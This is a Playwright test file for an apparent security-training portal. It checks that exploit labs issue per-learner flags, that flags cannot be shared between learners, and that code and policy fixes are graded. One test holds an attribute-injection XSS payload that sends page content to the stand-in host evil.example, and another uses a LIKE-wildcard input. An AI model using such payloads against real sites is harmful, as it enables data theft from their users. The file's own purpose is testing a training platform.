import { expect, type Page, test } from '@playwright/test';
import { openTests, readFix, typeFix } from '../../fixtures/learner.ts';
import { openPortal, type Portal, signIn } from '../../fixtures/servers/portal.ts';

/** Kinds of lab other than "fix the code", submitted from the page and graded by the server. */
let portal: Portal;
test.beforeAll(async () => {
  portal = await openPortal();
});
test.afterAll(() => portal?.close());

const JUDGED = { timeout: 60_000 };
const app = (page: Page) => page.frameLocator('iframe');
const view = (page: Page, name: string) =>
  page.getByRole('tablist', { name: /what happened behind it/ }).getByRole('tab', { name });

/** The next call of this path fails as if offline. */
async function failOnce(page: Page, path: string) {
  let failures = 1;
  await page.route(`**/${path}`, (route) => {
    failures -= 1;
    return failures >= 0 ? route.abort('internetdisconnected') : route.continue();
  });
}

async function readOwnFlag(page: Page): Promise<string> {
  const flag = page.getByText(/^flag\{.+\}$/).first();
  await expect(flag).toBeVisible();
  return (await flag.textContent()) ?? '';
}

test("the attack of an exploit lab is submitted and replayed against this learner's own flag", {
  tag: '@lean',
}, async ({ browser, page }) => {
  const LAB = 'like-pattern';
  await signIn(page, portal, 'member@acme.test', `/portal/challenges/${LAB}`);

  await test.step('the attack reads the practice flag on the page', async () => {
    await app(page).getByLabel('Code').fill('GOLD-____-2026');
    await app(page).getByLabel('Code').press('Enter');
    await expect(page.getByText('You have the practice flag.')).toBeVisible();
  });

  await test.step('the submitted attack earns the learner’s own flag, although the network fails once', async () => {
    await failOnce(page, 'api/challenge/lab/submit');
    await page.getByRole('button', { name: 'Submit' }).first().click();
    await expect(page.getByRole('heading', { name: 'The bridge is open' })).toBeVisible(JUDGED);
  });
  const flag = await readOwnFlag(page);

  await test.step('the same flag is wrong in another learner’s box, and stays so', async () => {
    const context = await browser.newContext();
    const other = await context.newPage();
    await signIn(other, portal, 'member@globex.test', `/portal/challenges/${LAB}`);
    await openTests(other);
    await other.getByRole('textbox', { name: 'Flag' }).fill(flag);
    await other.getByRole('button', { name: 'Submit flag' }).click();
    await expect(other.getByText(/This is not your flag\. 9 tries left/)).toBeVisible();
    await other.reload();
    await expect(other.getByText('Not passed yet').first()).toBeVisible();
    await context.close();
  });

  await test.step('a reload shows it solved, with the same flag', async () => {
    await page.reload();
    await openTests(page);
    expect(await readOwnFlag(page)).toBe(flag);
  });
});

test('a victim follows a link in the simulated browser, and the server sees the same', async ({ page }) => {
  await signIn(page, portal, 'ind@demo.test', '/portal/challenges/attribute-xss');
  await view(page, 'Victim').click();
  await page
    .getByLabel('Address in the app')
    .fill(`/?q=%22%20autofocus%20onfocus=%22location='https://evil.example/?'%2Bcode.textContent`);
  await page.getByRole('button', { name: /^Send the link to Odile/ }).click();
  await expect(page.getByText('You have the practice flag.')).toBeVisible();
  await page.getByRole('button', { name: 'Submit' }).first().click();
  await expect(page.getByRole('heading', { name: 'The bridge is open' })).toBeVisible(JUDGED);
});

test('the files of a policy lab are graded in the page and on the server', async ({ page }) => {
  const LAB = 'l23-dockerfile-on-a-diet';
  await signIn(page, portal, 'manager@acme.test', `/portal/labs/${LAB}`);
  await openTests(page);
  await expect(page.getByText('Gets through').first()).toBeVisible();
  await typeFix(page, page, readFix(LAB, 'solution'));
  await expect(page.getByText('Gets through')).toHaveCount(0);
  await page.getByRole('button', { name: 'Submit' }).click();
  await expect(page.getByRole('heading', { name: 'The bridge is open' })).toBeVisible(JUDGED);
});

test('a Python lab runs in the page’s worker and in the server’s jail', async ({ page }) => {
  // Python is 12 MB to fetch and takes seconds to start, on either side.
  test.slow();
  const LAB = 'l10-the-thumbnailers-shell';
  await signIn(page, portal, 'champion@acme.test', `/portal/labs/${LAB}`);
  await openTests(page);
  await expect(page.getByText('Gets through').first()).toBeVisible(JUDGED);
  await typeFix(page, page, readFix(LAB, 'solution'));
  await expect(page.getByText('Gets through')).toHaveCount(0, JUDGED);
  await page.getByRole('button', { name: 'Submit' }).click();
  await expect(page.getByRole('heading', { name: 'The bridge is open' })).toBeVisible(JUDGED);
});
